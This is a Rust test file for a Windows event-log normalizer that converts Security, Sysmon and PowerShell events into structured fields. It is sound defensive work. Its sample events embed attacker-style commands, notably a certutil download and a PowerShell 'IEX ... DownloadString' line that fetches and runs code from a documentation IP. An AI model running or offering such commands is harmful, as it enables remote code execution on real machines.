//! Tests of the Windows normalizer on hand-written events in every input shape.

use super::*;
use serde_json::{json, Value as J};

#[path = "tests/text.rs"]
mod text;

fn ctx() -> Context {
    Context::new(
        "2024-06-01T00:00:00Z".parse().unwrap(),
        chrono_tz::Europe::Berlin,
    )
}

fn run(n: &WindowsNormalizer, raw: &str) -> (Result<(), ParseFailure>, J) {
    let mut doc = Doc::new();
    let r = n.normalize(raw.as_bytes(), &ctx(), &mut doc);
    (r, doc.to_json())
}

fn ok(raw: &str) -> J {
    let n = WindowsNormalizer::builtin().unwrap();
    let (r, j) = run(&n, raw);
    assert_eq!(r, Ok(()), "{raw}");
    j
}

fn at<'a>(j: &'a J, path: &str) -> &'a J {
    j.pointer(&format!("/{}", path.replace('.', "/")))
        .unwrap_or(&J::Null)
}

fn set(j: &J, path: &str) -> Vec<String> {
    let mut v: Vec<String> = match at(j, path) {
        J::Array(a) => a
            .iter()
            .map(|x| x.as_str().unwrap_or("?").to_owned())
            .collect(),
        J::Null => vec![],
        other => vec![other.to_string()],
    };
    v.sort();
    v
}

fn event_xml(system: &str, body: &str) -> String {
    format!("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>{system}</System>{body}</Event>")
}

fn security_system(id: u32, keywords: &str, record: u32) -> String {
    format!("<Provider Name='Microsoft-Windows-Security-Auditing' Guid='{{54849625-5478-4994-a5ba-3e3b0328c30d}}'/><EventID>{id}</EventID><Version>2</Version><Level>0</Level><Task>12544</Task><Opcode>0</Opcode><Keywords>{keywords}</Keywords><TimeCreated SystemTime='2024-03-11T09:41:07.5528211Z'/><EventRecordID>{record}</EventRecordID><Correlation/><Execution ProcessID='716' ThreadID='4120'/><Channel>Security</Channel><Computer>ws042.ad.contoso.test</Computer><Security/>")
}

fn data(pairs: &[(&str, &str)]) -> String {
    let mut s = String::from("<EventData>");
    for (k, v) in pairs {
        s.push_str(&format!("<Data Name='{k}'>{v}</Data>"));
    }
    s.push_str("</EventData>");
    s
}

const LOGON_DATA: &[(&str, &str)] = &[
    ("SubjectUserSid", "S-1-5-18"),
    ("SubjectUserName", "WS042$"),
    ("SubjectDomainName", "CONTOSO"),
    ("SubjectLogonId", "0x3e7"),
    (
        "TargetUserSid",
        "S-1-5-21-1004336348-1177238915-682003330-1119",
    ),
    ("TargetUserName", "m.rossi"),
    ("TargetDomainName", "CONTOSO"),
    ("TargetLogonId", "0x5c2a1f"),
    ("LogonType", "10"),
    ("LogonProcessName", "User32 "),
    ("AuthenticationPackageName", "Negotiate"),
    ("WorkstationName", "WS042"),
    ("LogonGuid", "{a1b2c3d4-0000-0000-0000-000000000000}"),
    ("TransmittedServices", "-"),
    ("LmPackageName", "-"),
    ("KeyLength", "0"),
    ("ProcessId", "0x2a4"),
    ("ProcessName", "C:\\Windows\\System32\\svchost.exe"),
    ("IpAddress", "::ffff:198.51.100.23"),
    ("IpPort", "50112"),
];

#[test]
fn builtin_tables_load_and_from_dir_matches() {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in BUILTIN {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    std::fs::write(dir.path().join("notes.txt"), "ignored").unwrap();
    let a = WindowsNormalizer::builtin().unwrap();
    let b = WindowsNormalizer::from_dir(dir.path()).unwrap();
    let raw = event_xml(
        &security_system(4624, "0x8020000000000000", 1),
        &data(LOGON_DATA),
    );
    assert_eq!(run(&a, &raw).1, run(&b, &raw).1);
}

#[test]
fn table_errors_name_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let e = WindowsNormalizer::from_dir(dir.path()).unwrap_err();
    assert!(matches!(e, TableError::Empty { .. }), "{e}");
    std::fs::write(dir.path().join("bad.yaml"), "events: [{id: x}]\n").unwrap();
    let e = WindowsNormalizer::from_dir(dir.path())
        .unwrap_err()
        .to_string();
    assert!(e.starts_with("bad.yaml"), "{e}");
    let e = WindowsNormalizer::from_dir(&dir.path().join("missing")).unwrap_err();
    assert!(matches!(e, TableError::Io { .. }));
}

#[test]
fn security_logon_xml() {
    let raw = event_xml(
        &security_system(4624, "0x8020000000000000", 5501),
        &data(LOGON_DATA),
    );
    let j = ok(&raw);
    assert_eq!(at(&j, "@timestamp"), "2024-03-11T09:41:07.552821100Z");
    assert_eq!(at(&j, "event.kind"), "event");
    assert_eq!(at(&j, "event.module"), "windows");
    assert_eq!(at(&j, "event.dataset"), "windows.security");
    assert_eq!(at(&j, "event.code"), "4624");
    assert_eq!(at(&j, "event.action"), "logged-in");
    assert_eq!(at(&j, "event.category"), &json!(["authentication"]));
    assert_eq!(at(&j, "event.type"), &json!(["start"]));
    assert_eq!(at(&j, "event.outcome"), "success");
    assert_eq!(
        at(&j, "event.provider"),
        "Microsoft-Windows-Security-Auditing"
    );
    assert_eq!(at(&j, "host.name"), "ws042.ad.contoso.test");
    assert_eq!(at(&j, "log.level"), "information");
    assert_eq!(at(&j, "user.name"), "m.rossi");
    assert_eq!(at(&j, "user.domain"), "CONTOSO");
    assert_eq!(
        at(&j, "user.id"),
        "S-1-5-21-1004336348-1177238915-682003330-1119"
    );
    assert_eq!(at(&j, "source.ip"), "198.51.100.23");
    assert_eq!(at(&j, "source.port"), 50112);
    assert_eq!(at(&j, "source.domain"), "WS042");
    assert_eq!(at(&j, "process.pid"), 676);
    assert_eq!(at(&j, "process.name"), "svchost.exe");
    assert_eq!(set(&j, "related.user"), ["WS042$", "m.rossi"]);
    assert_eq!(set(&j, "related.ip"), ["198.51.100.23"]);
    assert_eq!(at(&j, "winlog.logon.type"), "RemoteInteractive");
    assert_eq!(at(&j, "winlog.logon.id"), "0x3e7");
    assert_eq!(at(&j, "winlog.channel"), "Security");
    assert_eq!(at(&j, "winlog.event_id"), "4624");
    assert_eq!(at(&j, "winlog.record_id"), "5501");
    assert_eq!(at(&j, "winlog.keywords"), &json!(["Audit Success"]));
    assert_eq!(at(&j, "winlog.task"), "Logon");
    assert_eq!(at(&j, "winlog.opcode"), "Info");
    assert_eq!(at(&j, "winlog.version"), 2);
    assert_eq!(at(&j, "winlog.process.pid"), 716);
    assert_eq!(at(&j, "winlog.process.thread.id"), 4120);
    assert_eq!(
        at(&j, "winlog.provider_guid"),
        "{54849625-5478-4994-a5ba-3e3b0328c30d}"
    );
    // Event data keeps every item by its literal name, trailing spaces included.
    assert_eq!(j["winlog"]["event_data"]["LogonProcessName"], "User32 ");
    assert_eq!(j["winlog"]["event_data"]["TransmittedServices"], "-");
}

#[test]
fn failed_logon_uses_keywords_and_status_tables() {
    let mut d: Vec<(&str, &str)> = LOGON_DATA.to_vec();
    d.retain(|(k, _)| !k.starts_with("TargetLogon"));
    d.extend([
        ("Status", "0xC000006D"),
        ("SubStatus", "0xc000006a"),
        ("FailureReason", "%%2313"),
    ]);
    for (k, v) in d.iter_mut() {
        if *k == "LogonType" {
            *v = "3";
        }
        if *k == "TargetUserSid" {
            *v = "S-1-0-0";
        }
    }
    let j = ok(&event_xml(
        &security_system(4625, "0x8010000000000000", 7),
        &data(&d),
    ));
    assert_eq!(at(&j, "event.action"), "logon-failed");
    assert_eq!(at(&j, "event.outcome"), "failure");
    assert_eq!(at(&j, "winlog.logon.type"), "Network");
    assert_eq!(
        at(&j, "winlog.logon.failure.reason"),
        "Unknown user name or bad password."
    );
    assert_eq!(
        at(&j, "winlog.logon.failure.sub_status"),
        "User logon with misspelled or bad password"
    );
    assert_eq!(at(&j, "winlog.keywords"), &json!(["Audit Failure"]));
    assert_eq!(set(&j, "related.user"), ["m.rossi"]);
}

#[test]
fn process_creation_4688() {
    let d = [
        (
            "SubjectUserSid",
            "S-1-5-21-1004336348-1177238915-682003330-1119",
        ),
        ("SubjectUserName", "m.rossi"),
        ("SubjectDomainName", "CONTOSO"),
        ("SubjectLogonId", "0x5c2a1f"),
        ("NewProcessId", "0x1f44"),
        (
            "NewProcessName",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        ),
        ("TokenElevationType", "%%1938"),
        ("ProcessId", "0x12d8"),
        (
            "CommandLine",
            "powershell.exe -NoP -w hidden -c \"Get-Process | Out-File C:\\Temp\\p.txt\"",
        ),
        ("TargetUserSid", "S-1-0-0"),
        ("TargetUserName", "-"),
        ("TargetDomainName", "-"),
        ("TargetLogonId", "0x0"),
        ("ParentProcessName", "C:\\Windows\\explorer.exe"),
        ("MandatoryLabel", "S-1-16-8192"),
    ];
    let j = ok(&event_xml(
        &security_system(4688, "0x8020000000000000", 9),
        &data(&d),
    ));
    assert_eq!(at(&j, "event.action"), "created-process");
    assert_eq!(at(&j, "event.category"), &json!(["process"]));
    assert_eq!(at(&j, "process.pid"), 8004);
    assert_eq!(at(&j, "process.name"), "powershell.exe");
    assert_eq!(
        at(&j, "process.executable"),
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    );
    assert_eq!(at(&j, "process.parent.pid"), 4824);
    assert_eq!(at(&j, "process.parent.name"), "explorer.exe");
    assert_eq!(
        at(&j, "process.args"),
        &json!([
            "powershell.exe",
            "-NoP",
            "-w",
            "hidden",
            "-c",
            "Get-Process | Out-File C:\\Temp\\p.txt"
        ])
    );
    assert_eq!(at(&j, "user.name"), "m.rossi");
    // As in Elastic, only `-` counts as no value: the NULL SID is kept.
    assert_eq!(at(&j, "user.effective"), &json!({"id": "S-1-0-0"}));
    assert_eq!(set(&j, "related.user"), ["m.rossi"]);
}

#[test]
fn account_and_group_management() {
    let subject = [
        (
            "SubjectUserSid",
            "S-1-5-21-1004336348-1177238915-682003330-500",
        ),
        ("SubjectUserName", "admin.jk"),
        ("SubjectDomainName", "CONTOSO"),
        ("SubjectLogonId", "0x8d1e2"),
    ];
    let mut d = subject.to_vec();
    d.extend([
        ("TargetUserName", "svc_backup"),
        ("TargetDomainName", "CONTOSO"),
        ("TargetSid", "S-1-5-21-1004336348-1177238915-682003330-2203"),
    ]);
    let j = ok(&event_xml(
        &security_system(4720, "0x8020000000000000", 3),
        &data(&d),
    ));
    assert_eq!(at(&j, "event.action"), "added-user-account");
    assert_eq!(at(&j, "event.type"), &json!(["user", "creation"]));
    assert_eq!(at(&j, "user.name"), "admin.jk");
    assert_eq!(at(&j, "user.target.name"), "svc_backup");
    assert_eq!(set(&j, "related.user"), ["admin.jk", "svc_backup"]);

    let mut d = subject.to_vec();
    d.extend([
        ("MemberName", "CN=Svc Backup,OU=Service,DC=contoso,DC=test"),
        ("MemberSid", "S-1-5-21-1004336348-1177238915-682003330-2203"),
        ("TargetUserName", "Domain Admins"),
        ("TargetDomainName", "CONTOSO"),
        ("TargetSid", "S-1-5-21-1004336348-1177238915-682003330-512"),
        ("PrivilegeList", "-"),
    ]);
    for id in [4728, 4732, 4756] {
        let j = ok(&event_xml(
            &security_system(id, "0x8020000000000000", 4),
            &data(&d),
        ));
        assert_eq!(at(&j, "event.action"), "added-member-to-group", "{id}");
        assert_eq!(at(&j, "group.name"), "Domain Admins");
        assert_eq!(
            at(&j, "group.id"),
            "S-1-5-21-1004336348-1177238915-682003330-512"
        );
        assert_eq!(at(&j, "user.target.name"), "Svc Backup");
        assert_eq!(at(&j, "user.target.domain"), "contoso");
        assert_eq!(set(&j, "related.user"), ["Svc Backup", "admin.jk"]);
    }
    let j = ok(&event_xml(
        &security_system(4733, "0x8020000000000000", 4),
        &data(&d),
    ));
    assert_eq!(at(&j, "event.action"), "removed-member-from-group");
}

#[test]
fn audit_log_cleared_from_user_data() {
    let sys = "<Provider Name='Microsoft-Windows-Eventlog' Guid='{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}'/><EventID>1102</EventID><Version>0</Version><Level>4</Level><Task>104</Task><Opcode>0</Opcode><Keywords>0x4020000000000000</Keywords><TimeCreated SystemTime='2024-02-02T22:10:00.000000Z'/><EventRecordID>88</EventRecordID><Execution ProcessID='1180' ThreadID='2200'/><Channel>Security</Channel><Computer>dc01.contoso.test</Computer><Security/>";
    let body = "<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserSid>S-1-5-21-1004336348-1177238915-682003330-500</SubjectUserSid><SubjectUserName>admin.jk</SubjectUserName><SubjectDomainName>CONTOSO</SubjectDomainName><SubjectLogonId>0x8d1e2</SubjectLogonId></LogFileCleared></UserData>";
    let j = ok(&event_xml(sys, body));
    assert_eq!(at(&j, "event.action"), "audit-log-cleared");
    assert_eq!(at(&j, "event.type"), &json!(["admin", "change"]));
    assert_eq!(at(&j, "event.outcome"), "success");
    assert_eq!(at(&j, "user.name"), "admin.jk");
    assert_eq!(at(&j, "user.domain"), "CONTOSO");
    assert_eq!(at(&j, "winlog.logon.id"), "0x8d1e2");
    assert_eq!(at(&j, "winlog.task"), "Log clear");
    assert_eq!(j["winlog"]["user_data"]["xml_name"], "LogFileCleared");
    assert_eq!(j["winlog"]["user_data"]["SubjectUserName"], "admin.jk");
}

fn sysmon(id: u32, pairs: &[(&str, &str)]) -> String {
    let sys = format!("<Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385f-c22a-43e0-bf4c-06f5698ffbd9}}'/><EventID>{id}</EventID><Version>5</Version><Level>4</Level><Task>{id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2024-04-20T10:00:00.9876543Z'/><EventRecordID>4411</EventRecordID><Correlation/><Execution ProcessID='3020' ThreadID='3188'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>lab-ws7</Computer><Security UserID='S-1-5-18'/>");
    event_xml(&sys, &data(pairs))
}

#[test]
fn sysmon_process_create() {
    let j = ok(&sysmon(
        1,
        &[
            ("RuleName", "-"),
            ("UtcTime", "2024-04-20 10:00:00.412"),
            ("ProcessGuid", "{8a4c0f2e-9a10-6623-2a01-000000001d00}"),
            ("ProcessId", "6120"),
            ("Image", "C:\\Windows\\System32\\certutil.exe"),
            ("OriginalFileName", "CertUtil.exe"),
            ("CommandLine", "certutil -urlcache -f http://203.0.113.9/a.bin a.bin"),
            ("CurrentDirectory", "C:\\Users\\kim\\"),
            ("User", "LAB\\kim"),
            ("Hashes", "MD5=0F3B2A0C3E8B5D1A9C7E6F5D4C3B2A19,SHA256=AA11BB22CC33DD44EE55FF6677889900AA11BB22CC33DD44EE55FF6677889900,IMPHASH=00000000000000000000000000000000"),
            ("ParentProcessGuid", "{8a4c0f2e-9a0f-6623-2901-000000001d00}"),
            ("ParentProcessId", "5988"),
            ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
            ("ParentCommandLine", "cmd.exe /c run.bat"),
        ],
    ));
    // Sysmon's own UtcTime is the event time.
    assert_eq!(at(&j, "@timestamp"), "2024-04-20T10:00:00.412Z");
    assert_eq!(at(&j, "event.dataset"), "windows.sysmon_operational");
    assert_eq!(at(&j, "event.action"), "Process creation");
    assert_eq!(at(&j, "event.outcome"), &J::Null);
    assert_eq!(at(&j, "process.pid"), 6120);
    assert_eq!(at(&j, "process.name"), "certutil.exe");
    assert_eq!(
        at(&j, "process.entity_id"),
        "{8a4c0f2e-9a10-6623-2a01-000000001d00}"
    );
    assert_eq!(at(&j, "process.parent.name"), "cmd.exe");
    assert_eq!(at(&j, "process.parent.pid"), 5988);
    assert_eq!(at(&j, "process.pe.original_file_name"), "CertUtil.exe");
    assert_eq!(
        at(&j, "process.hash.md5"),
        "0f3b2a0c3e8b5d1a9c7e6f5d4c3b2a19"
    );
    assert_eq!(at(&j, "process.pe.imphash"), &J::Null);
    assert_eq!(set(&j, "related.hash").len(), 2);
    assert_eq!(at(&j, "user.name"), "kim");
    assert_eq!(at(&j, "user.domain"), "LAB");
    assert_eq!(at(&j, "user.id"), "S-1-5-18");
    assert_eq!(at(&j, "rule.name"), &J::Null);
    assert_eq!(
        at(&j, "winlog.task"),
        "Process Create (rule: ProcessCreate)"
    );
    assert_eq!(at(&j, "winlog.user.identifier"), "S-1-5-18");
}

#[test]
fn sysmon_network_dns_registry_file_and_image_load() {
    let j = ok(&sysmon(
        3,
        &[
            ("UtcTime", "2024-04-20 10:00:01.000"),
            ("ProcessId", "6120"),
            ("Image", "C:\\Windows\\System32\\certutil.exe"),
            ("User", "LAB\\kim"),
            ("Protocol", "tcp"),
            ("Initiated", "true"),
            ("SourceIsIpv6", "false"),
            ("SourceIp", "10.20.30.40"),
            ("SourceHostname", "lab-ws7.lab.test"),
            ("SourcePort", "49811"),
            ("DestinationIsIpv6", "false"),
            ("DestinationIp", "203.0.113.9"),
            ("DestinationPort", "80"),
            ("DestinationPortName", "http"),
        ],
    ));
    assert_eq!(
        at(&j, "event.type"),
        &json!(["start", "connection", "protocol"])
    );
    assert_eq!(at(&j, "source.ip"), "10.20.30.40");
    assert_eq!(at(&j, "source.port"), 49811);
    assert_eq!(at(&j, "destination.ip"), "203.0.113.9");
    assert_eq!(at(&j, "destination.port"), 80);
    assert_eq!(at(&j, "network.transport"), "tcp");
    assert_eq!(at(&j, "network.protocol"), "http");
    assert_eq!(at(&j, "network.direction"), "egress");
    assert_eq!(at(&j, "network.type"), "ipv4");
    assert_eq!(set(&j, "related.ip"), ["10.20.30.40", "203.0.113.9"]);

    let j = ok(&sysmon(
        22,
        &[
            ("UtcTime", "2024-04-20 10:00:02.000"),
            ("ProcessId", "6120"),
            ("QueryName", "updates.example.net"),
            ("QueryStatus", "0"),
            (
                "QueryResults",
                "type:  5 cdn.example.net;::ffff:192.0.2.44;",
            ),
            ("Image", "C:\\Windows\\System32\\certutil.exe"),
        ],
    ));
    assert_eq!(at(&j, "dns.question.name"), "updates.example.net");
    assert_eq!(at(&j, "network.protocol"), "dns");
    assert_eq!(at(&j, "sysmon.dns.status"), "SUCCESS");
    assert_eq!(
        at(&j, "dns.answers"),
        &json!([{"data": "cdn.example.net", "type": "CNAME"}, {"data": "192.0.2.44", "type": "A"}])
    );
    assert_eq!(at(&j, "dns.resolved_ip"), &json!(["192.0.2.44"]));
    assert_eq!(set(&j, "related.ip"), ["192.0.2.44"]);
    assert_eq!(
        set(&j, "related.hosts"),
        ["cdn.example.net", "updates.example.net"]
    );

    let j = ok(&sysmon(
        13,
        &[
            ("EventType", "SetValue"),
            ("UtcTime", "2024-04-20 10:00:03.000"),
            ("Image", "C:\\Users\\kim\\AppData\\Local\\Temp\\x.exe"),
            ("TargetObject", "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"),
            ("Details", "C:\\Users\\kim\\AppData\\Local\\Temp\\x.exe"),
        ],
    ));
    assert_eq!(
        at(&j, "event.category"),
        &json!(["configuration", "registry"])
    );
    assert_eq!(at(&j, "registry.hive"), "HKU");
    assert_eq!(at(&j, "registry.value"), "Updater");
    assert_eq!(at(&j, "registry.data.type"), "REG_SZ");
    assert_eq!(at(&j, "process.name"), "x.exe");

    let j = ok(&sysmon(
        11,
        &[
            ("UtcTime", "2024-04-20 10:00:04.000"),
            ("Image", "C:\\Windows\\System32\\certutil.exe"),
            ("TargetFilename", "C:\\Users\\kim\\Downloads\\a.bin"),
        ],
    ));
    assert_eq!(at(&j, "event.action"), "FileCreate");
    assert_eq!(at(&j, "file.path"), "C:\\Users\\kim\\Downloads\\a.bin");
    assert_eq!(at(&j, "file.name"), "a.bin");
    assert_eq!(at(&j, "file.directory"), "C:\\Users\\kim\\Downloads");
    assert_eq!(at(&j, "file.extension"), "bin");

    let j = ok(&sysmon(
        7,
        &[
            ("UtcTime", "2024-04-20 10:00:05.000"),
            ("Image", "C:\\Windows\\System32\\rundll32.exe"),
            ("ImageLoaded", "C:\\Users\\kim\\AppData\\Roaming\\helper.dll"),
            ("Hashes", "SHA1=ABCDEF0123456789ABCDEF0123456789ABCDEF01,IMPHASH=1234567890ABCDEF1234567890ABCDEF"),
            ("Signed", "false"),
            ("SignatureStatus", "Unavailable"),
        ],
    ));
    assert_eq!(at(&j, "event.action"), &json!(["Image loaded", "load"]));
    assert_eq!(at(&j, "event.category"), &json!(["process", "library"]));
    assert_eq!(at(&j, "dll.name"), "helper.dll");
    assert_eq!(
        at(&j, "dll.hash.sha1"),
        "abcdef0123456789abcdef0123456789abcdef01"
    );
    assert_eq!(at(&j, "dll.pe.imphash"), "1234567890abcdef1234567890abcdef");
    assert_eq!(at(&j, "file.code_signature.signed"), false);
    assert_eq!(set(&j, "related.hash").len(), 2);
}

const EVTX_JSON: &str = r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"{54849625-5478-4994-a5ba-3e3b0328c30d}"}},"EventID":4624,"Version":2,"Level":0,"Task":12544,"Opcode":0,"Keywords":"0x8020000000000000","TimeCreated":{"#attributes":{"SystemTime":"2024-03-11T09:41:07.552821Z"}},"EventRecordID":5501,"Correlation":null,"Execution":{"#attributes":{"ProcessID":716,"ThreadID":4120}},"Channel":"Security","Computer":"ws042.ad.contoso.test","Security":null},"EventData":{"SubjectUserSid":"S-1-5-18","SubjectUserName":"WS042$","SubjectDomainName":"CONTOSO","SubjectLogonId":"0x3e7","TargetUserSid":"S-1-5-21-1004336348-1177238915-682003330-1119","TargetUserName":"m.rossi","TargetDomainName":"CONTOSO","TargetLogonId":"0x5c2a1f","LogonType":10,"LogonProcessName":"User32 ","ProcessId":"0x2a4","ProcessName":"C:\\Windows\\System32\\svchost.exe","IpAddress":"::ffff:198.51.100.23","IpPort":"50112"}}}"##;

const KEY_FIELDS: &[&str] = &[
    "event.code",
    "event.action",
    "event.category",
    "event.type",
    "event.outcome",
    "event.provider",
    "event.dataset",
    "user.name",
    "user.id",
    "user.domain",
    "source.ip",
    "source.port",
    "host.name",
    "process.pid",
    "process.name",
    "winlog.channel",
    "winlog.event_id",
    "winlog.record_id",
    "winlog.logon.type",
];

fn same_key_fields(a: &J, b: &J, what: &str) {
    for k in KEY_FIELDS {
        assert_eq!(at(a, k), at(b, k), "{what}: {k}");
    }
    assert_eq!(set(a, "related.user"), set(b, "related.user"), "{what}");
    assert_eq!(set(a, "related.ip"), set(b, "related.ip"), "{what}");
}

#[test]
fn every_shape_gives_the_same_meaning() {
    let xml = ok(&event_xml(
        &security_system(4624, "0x8020000000000000", 5501),
        &data(LOGON_DATA),
    ));
    let evtx = ok(EVTX_JSON);
    same_key_fields(&xml, &evtx, "evtx json");
    assert_eq!(at(&evtx, "@timestamp"), "2024-03-11T09:41:07.552821Z");

    // The evtx crate's already-parsed value.
    let n = WindowsNormalizer::builtin().unwrap();
    let v: serde_json::Value = serde_json::from_str(EVTX_JSON).unwrap();
    let mut doc = Doc::new();
    n.normalize_evtx_json(&v, &ctx(), &mut doc).unwrap();
    same_key_fields(&xml, &doc.to_json(), "evtx value");

    let winlogbeat = json!({
        "@timestamp": "2024-03-11T09:41:07.552Z",
        "host": {"name": "ws042.ad.contoso.test"},
        "event": {"code": "4624", "kind": "event", "provider": "Microsoft-Windows-Security-Auditing"},
        "log": {"level": "information"},
        "message": "An account was successfully logged on.",
        "winlog": {
            "channel": "Security", "computer_name": "ws042.ad.contoso.test", "event_id": 4624,
            "provider_name": "Microsoft-Windows-Security-Auditing", "record_id": 5501,
            "keywords": ["Audit Success"], "opcode": "Info", "task": "Logon", "api": "wineventlog",
            "process": {"pid": 716, "thread": {"id": 4120}},
            "event_data": LOGON_DATA.iter().map(|(k, v)| (k.to_string(), json!(v))).collect::<serde_json::Map<_, _>>()
        }
    });
    let wb = ok(&winlogbeat.to_string());
    same_key_fields(&xml, &wb, "winlogbeat");
    assert_eq!(at(&wb, "message"), "An account was successfully logged on.");

    let mut nx = serde_json::Map::new();
    for (k, v) in LOGON_DATA {
        nx.insert(k.to_string(), json!(v));
    }
    nx.extend(
        json!({
            "EventTime": "2024-03-11 10:41:07", "EventReceivedTime": "2024-03-11 10:41:08",
            "Hostname": "ws042.ad.contoso.test", "SourceName": "Microsoft-Windows-Security-Auditing",
            "Keywords": -9214364837600034816i64, "EventType": "AUDIT_SUCCESS", "SeverityValue": 2,
            "Severity": "INFO", "EventID": 4624, "Channel": "Security", "RecordNumber": 5501,
            "Category": "Logon", "Opcode": "Info", "ProcessID": 716, "ThreadID": 4120,
            "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog"
        })
        .as_object()
        .unwrap()
        .clone(),
    );
    let nxlog = ok(&J::Object(nx).to_string());
    same_key_fields(&xml, &nxlog, "nxlog");
    // NXLog's zone-less local time is read in the configured zone (Berlin, UTC+1 in March).
    assert_eq!(at(&nxlog, "@timestamp"), "2024-03-11T10:41:07+01:00");
    assert_eq!(at(&nxlog, "log.level"), "information");
    assert!(nxlog["winlog"]["event_data"]
        .get("SourceModuleName")
        .is_none());
}

#[test]
fn winlogbeat_document_with_only_the_original_xml() {
    let xml = event_xml(
        &security_system(4624, "0x8020000000000000", 5501),
        &data(LOGON_DATA),
    );
    let doc = json!({"@timestamp": "2024-03-11T09:41:07Z", "event": {"original": xml}});
    let a = ok(&doc.to_string());
    let b = ok(&xml);
    same_key_fields(&a, &b, "event.original");
}

#[test]
fn powershell_module_logging_context_info() {
    let sys = "<Provider Name='Microsoft-Windows-PowerShell' Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/><EventID>4103</EventID><Version>1</Version><Level>4</Level><Task>106</Task><Opcode>20</Opcode><Keywords>0x0</Keywords><TimeCreated SystemTime='2024-05-05T08:00:00.000Z'/><EventRecordID>12</EventRecordID><Execution ProcessID='5500' ThreadID='5600'/><Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>lab-ws7</Computer><Security UserID='S-1-5-21-1-2-3-1001'/>";
    let ctx_info = "        Severity = Informational\n        Host Name = ConsoleHost\n        Host Version = 5.1.19041.1\n        Host ID = 0b7a2f1e-1111-2222-3333-444455556666\n        Host Application = powershell.exe -ep bypass -f C:\\Temp\\s.ps1\n        Engine Version = 5.1.19041.1\n        Runspace ID = 9d1c4a11-0000-1111-2222-333344445555\n        Pipeline ID = 7\n        Command Name = Invoke-WebRequest\n        Command Type = Cmdlet\n        Script Name = C:\\Temp\\s.ps1\n        Command Path = \n        Sequence Number = 21\n        User = LAB\\kim\n        Connected User = \n        Shell ID = Microsoft.PowerShell\n";
    let body = data(&[
        ("ContextInfo", ctx_info),
        ("UserData", ""),
        (
            "Payload",
            "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"",
        ),
    ]);
    let j = ok(&event_xml(sys, &body));
    assert_eq!(at(&j, "event.dataset"), "windows.powershell_operational");
    assert_eq!(at(&j, "event.category"), &json!(["process"]));
    assert_eq!(at(&j, "event.type"), &json!(["info"]));
    assert_eq!(
        at(&j, "process.command_line"),
        "powershell.exe -ep bypass -f C:\\Temp\\s.ps1"
    );
    assert_eq!(at(&j, "process.title"), "ConsoleHost");
    assert_eq!(at(&j, "powershell.command.name"), "Invoke-WebRequest");
    assert_eq!(at(&j, "powershell.sequence"), 21);
    assert_eq!(at(&j, "user.name"), "kim");
    assert_eq!(at(&j, "user.id"), "S-1-5-21-1-2-3-1001");
    assert_eq!(at(&j, "file.name"), "s.ps1");
    assert_eq!(
        j["winlog"]["event_data"]["HostApplication"],
        "powershell.exe -ep bypass -f C:\\Temp\\s.ps1"
    );

    let sys4104 = sys.replace("<EventID>4103</EventID>", "<EventID>4104</EventID>");
    let body = data(&[
        ("MessageNumber", "1"),
        ("MessageTotal", "1"),
        (
            "ScriptBlockText",
            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
        ),
        ("ScriptBlockId", "5e5a8c9e-aaaa-bbbb-cccc-ddddeeeeffff"),
        ("Path", ""),
    ]);
    let j = ok(&event_xml(&sys4104, &body));
    assert_eq!(
        at(&j, "powershell.file.script_block_id"),
        "5e5a8c9e-aaaa-bbbb-cccc-ddddeeeeffff"
    );
    assert_eq!(at(&j, "powershell.total"), 1);
}

#[test]
fn service_installed_7045_classic_event() {
    let sys = "<Provider Name='Service Control Manager' Guid='{555908d1-a6d7-4695-8e1e-26931d2012f4}' EventSourceName='Service Control Manager'/><EventID Qualifiers='16384'>7045</EventID><Version>0</Version><Level>4</Level><Task>0</Task><Opcode>0</Opcode><Keywords>0x8080000000000000</Keywords><TimeCreated SystemTime='2024-05-06T01:02:03.000Z'/><EventRecordID>901</EventRecordID><Execution ProcessID='668' ThreadID='2244'/><Channel>System</Channel><Computer>srv-app1</Computer><Security UserID='S-1-5-21-1-2-3-500'/>";
    let body = data(&[
        ("ServiceName", "WinUpdSvc"),
        ("ImagePath", "%COMSPEC% /c C:\\ProgramData\\u.exe"),
        ("ServiceType", "user mode service"),
        ("StartType", "auto start"),
        ("AccountName", "LocalSystem"),
    ]);
    let j = ok(&event_xml(sys, &body));
    assert_eq!(at(&j, "event.dataset"), "windows.system");
    assert_eq!(at(&j, "event.action"), "service-installed");
    assert_eq!(at(&j, "service.name"), "WinUpdSvc");
    assert_eq!(at(&j, "user.id"), "S-1-5-21-1-2-3-500");
    assert_eq!(at(&j, "winlog.keywords"), &json!(["Classic"]));
    assert_eq!(at(&j, "winlog.task"), &J::Null);
    assert_eq!(at(&j, "event.outcome"), &J::Null);
}

#[test]
fn unknown_provider_gets_the_base_fields() {
    let sys = "<Provider Name='Microsoft-Windows-TerminalServices-RemoteConnectionManager'/><EventID>1149</EventID><Level>4</Level><TimeCreated SystemTime='2024-05-06T01:02:03Z'/><EventRecordID>5</EventRecordID><Channel>Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational</Channel><Computer>srv-app1</Computer>";
    let body = "<UserData><EventXML xmlns='Event_NS'><Param1>kim</Param1><Param2>LAB</Param2><Param3>198.51.100.7</Param3></EventXML></UserData>";
    let j = ok(&event_xml(sys, body));
    assert_eq!(
        at(&j, "event.dataset"),
        "windows.microsoft_windows_terminalservices_remoteconnectionmanager_operational"
